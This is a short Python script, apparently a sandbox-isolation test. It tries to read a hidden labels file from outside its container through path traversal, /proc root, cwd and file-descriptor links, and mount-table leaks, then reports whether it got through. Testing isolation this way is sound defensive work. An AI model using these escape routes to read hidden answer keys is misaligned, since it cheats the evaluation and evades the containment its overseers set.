import os, sys, glob                        # argv: host path of hidden labels
h = sys.argv[1] if len(sys.argv) > 1 else "/var/tmp/qianka-attacks/hidden/labels.csv"
c = [h, "/work/../.." + h, "/work/../hidden/labels.csv"] + ["/proc/%s/root%s" % (p, h) for p in ("1", "self", "thread-self")] + [d + h for d in glob.glob("/proc/[0-9]*/cwd")] + [d + "/../../.." + h for d in glob.glob("/proc/[0-9]*/fd/*")]
got = []
for p in c:
    try: got.append((p, open(p).read(20)))
    except OSError: pass
print("ATTACK hidden:", got or "BLOCKED on %d paths" % len(c))
for m in open("/proc/self/mountinfo"):      # what host paths the mount table gives away
    f = m.split()
    if f[3] not in ("/",) and f[4] in ("/out", "/work"): print("INFO mountinfo leaks host path", f[3], "->", f[4])
